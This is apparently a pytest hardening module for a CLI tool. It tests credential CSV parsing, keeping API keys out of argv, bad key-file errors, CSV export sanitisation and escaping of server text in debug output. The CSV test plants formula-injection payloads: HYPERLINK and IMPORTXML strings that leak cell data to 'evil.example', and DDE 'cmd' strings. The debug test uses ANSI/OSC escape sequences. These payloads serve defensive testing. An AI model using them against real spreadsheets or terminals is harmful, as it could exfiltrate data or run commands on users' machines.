"""Hardening cases of issue 16 about the cli surface, registered on import with ``@case``.

Kept apart from ``hardening.py`` so each surface's cases live beside their own helpers;
``test_hardening.py`` imports this module, so its cases run and are counted with the rest.
"""

from __future__ import annotations

import pytest

from tenantlead.smartlead import Smartlead
from tenantlead.tenantcore import TenantCore
from tests.reliability.hardening import _assert_clean, case

__all__ = ["case"]


# ---------------------------------------------------------------------------------- 15


@case(15, "bad input", "an unquoted comma in a password before a trailing column: refused, never cut")
def split_password_before_a_trailing_column_is_refused() -> None:
    from tenantlead.orchestration import CredentialsError, load_credentials
    from tests.reliability.bad_input_table import run_rows

    run_rows(
        "CSV password with an unquoted comma, before an empty trailing column",
        "CSV password with an unquoted comma, header padded with an unnamed column",
    )
    for text in (
        "email,password,notes\r\nava@x.com,Pa,ss9!word,\r\n",  # the notes column left empty
        "Email;Password;\r\nava@x.com;Pa;ss9!word\r\n",  # Excel's padded header, semicolons
        "email,password\nava@x.com,Password9,\n",  # the password ends in the comma
        "ava@x.com\tPassword9\t\n",  # headerless, a trailing tab
    ):
        with pytest.raises(CredentialsError) as info:
            load_credentials(text)
        message = str(info.value)
        assert "row " in message
        assert "quote" in message
        assert "ss9!word" not in message
        assert "Password9" not in message


# ---------------------------------------------------------------------------------- 20


@case(20, "attack", "keys read from a file and from stdin: a CLI run end to end with no key in its argv")
def keys_never_need_to_be_in_argv() -> None:
    import contextlib
    import json
    import os
    import subprocess
    import sys
    import tempfile
    import time
    from pathlib import Path

    from tenantlead.cli import build_parser
    from tenantlead.sandbox import Sandbox, SmartleadConfig

    sb = Sandbox.demo(seed=15, tenants=1, smartlead=SmartleadConfig(rate_limits=()))
    keys = (sb.tenantcore_api_key, sb.smartlead_api_key)
    env = {k: v for k, v in os.environ.items() if not k.endswith(("_API_KEY", "_BASE_URL"))}
    with tempfile.TemporaryDirectory() as tmp, sb.serve() as server:
        key_file = Path(tmp) / "tenantcore.key"
        key_file.write_text(sb.tenantcore_api_key + "\n")
        key_file.chmod(0o600)
        env["TENANTCORE_BASE_URL"] = server.tenantcore_base_url
        env["SMARTLEAD_BASE_URL"] = server.smartlead_base_url
        argv = [sys.executable, "-m", "tenantlead", "status", "--json"]
        argv += ["--tenantcore-key-file", str(key_file), "--smartlead-key-file", "-"]
        proc = subprocess.Popen(
            argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, text=True
        )
        # What any local user reads while the command runs (it waits for stdin): the real argv.
        # Read it once the child has exec'd (until then /proc shows the forking test process).
        cmdline = Path(f"/proc/{proc.pid}/cmdline")
        seen = "\0".join(argv)
        if cmdline.exists():
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline and proc.poll() is None:
                with contextlib.suppress(OSError):
                    seen = cmdline.read_bytes().decode()
                if "--smartlead-key-file" in seen:
                    break
        stdout, stderr = proc.communicate(sb.smartlead_api_key + "\n", timeout=120)
    assert proc.returncode == 0, stderr[-2000:]
    assert json.loads(stdout)["counts"]["tenants"] == 1  # the keys were used: the API answered
    assert "--smartlead-key-file\0-" in seen
    # Neither key in the process's arguments, its environment or its output.
    _assert_clean(seen + repr(env) + stdout + stderr, set(keys), "argv")
    help_text = " ".join(build_parser().format_help().split())
    assert "flag values are visible to other local users" in help_text
    assert "prefer $TENANTCORE_API_KEY or --tenantcore-key-file" in help_text


@case(
    20, "bad input", "an empty, missing or unreadable key file: exit 2 naming the option, never the content"
)
def bad_key_files_are_usage_errors() -> None:
    import contextlib
    import io
    import tempfile
    from pathlib import Path

    from tenantlead.cli import main

    content = "Not-A-Key-But-Secret-Looking-9f8e7d"
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "empty").write_text("\n")
        (Path(tmp) / "binary").write_bytes(content.encode() + b"\xff\xfe")
        (Path(tmp) / "key").write_text(content)
        for args, says in (
            (["--smartlead-key-file", f"{tmp}/empty"], f"--smartlead-key-file {tmp}/empty is empty"),
            (
                ["--tenantcore-key-file", f"{tmp}/missing"],
                f"--tenantcore-key-file {tmp}/missing: no such file",
            ),
            (["--smartlead-key-file", tmp], f"--smartlead-key-file {tmp} is a directory"),
            (["--smartlead-key-file", f"{tmp}/binary"], "is not UTF-8 text"),
            (["--smartlead-key", content, "--smartlead-key-file", f"{tmp}/key"], "not both"),
        ):
            out, err = io.StringIO(), io.StringIO()
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                code = main(["status", "--json", *args])
            assert code == 2, (args, err.getvalue())
            assert says in err.getvalue().splitlines()[0], err.getvalue()
            assert content[4:] not in out.getvalue() + err.getvalue()


# ---------------------------------------------------------------------------------- 19


@case(19, "attack", "server names like =HYPERLINK(...) and @SUM(...) reach every exported CSV as text")
def csv_exports_carry_no_live_formula() -> None:
    import csv
    import io

    from tenantlead.orchestration import Fleet, LimitPolicy, align_limits, connect, troubleshoot
    from tenantlead.sandbox import Sandbox

    sb = Sandbox.demo(seed=16, tenants=4)
    planted = [
        '=HYPERLINK("https://evil.example/?leak="&C2&D2,"Open the report")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '+IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    ]
    for tenant, name in zip(sb.tc_account.tenants.values(), planted, strict=True):
        tenant.tenant_name = name
    tc = TenantCore(sb.tenantcore_api_key, **sb.client_options())
    sl = Smartlead(sb.smartlead_api_key, **sb.client_options())
    fleet = Fleet.load(tc, sl)
    tables = (fleet, troubleshoot(fleet), connect(fleet, "manual"), align_limits(fleet, LimitPolicy()))
    for table in tables:
        text = table.to_csv()
        rows = list(csv.reader(io.StringIO(text)))
        cells = [c for row in rows for c in row]
        live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert not live, (type(table).__name__, live[:3])
        shown = {c[1:] for c in cells if c.startswith("'")}
        named = {r.get("tenant_name") for r in table.to_records()} & set(planted)
        assert named, type(table).__name__
        assert named <= shown, type(table).__name__  # kept, as text
    assert set(planted) <= {r.tenant_name for r in fleet.rows}
    # Numbers stay numbers (a number is not text a server chose).
    header, *body = list(csv.reader(io.StringIO(fleet.to_csv())))
    ids = [row[header.index("account_id")] for row in body if row[header.index("account_id")]]
    assert ids
    assert all(i.isdigit() for i in ids)


@case(19, "attack", "with --debug, a server's error text with ANSI/OSC escapes reaches the traceback escaped")
def debug_output_escapes_server_text() -> None:
    import contextlib
    import io

    import httpx

    from tenantlead.cli import _session, main
    from tenantlead.sandbox import Sandbox

    sb = Sandbox.demo(seed=17, tenants=1)
    real = sb.transport

    def handler(request: httpx.Request) -> httpx.Response:
        if "smartlead" in request.url.host:  # clear the screen, retitle the window, flip the text
            return httpx.Response(400, json={"message": "nope\x1b[2J\x1b]0;pwned\x07 \u202eevil"})
        return real.handle_request(request)

    def clients(_: Sandbox) -> tuple[TenantCore, Smartlead]:
        http = httpx.Client(transport=httpx.MockTransport(handler))
        return (
            TenantCore(sb.tenantcore_api_key, http_client=http, max_retries=0),
            Smartlead(sb.smartlead_api_key, http_client=http, max_retries=0, rate_limit=None),
        )

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(_session, "sandbox_clients", clients)
        patch.setattr(_session, "_demo_sandbox", lambda seed, tenants: sb)
        for argv in (["status", "--sandbox", "--debug"], ["doctor", "--sandbox", "--debug", "--json"]):
            out, err = io.StringIO(), io.StringIO()
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                code = main(argv)
            text = out.getvalue() + err.getvalue()
            assert code == 4, text[-500:]
            assert "Traceback" in text  # the --debug traceback was printed, and the request log
            assert "debug: " in text
            assert "nope\\x1b[2J\\x1b]0;pwned\\x07" in text  # shown, as escapes
            for raw in ("\x1b", "\x07", "\u202e"):
                assert raw not in text, (argv, raw)
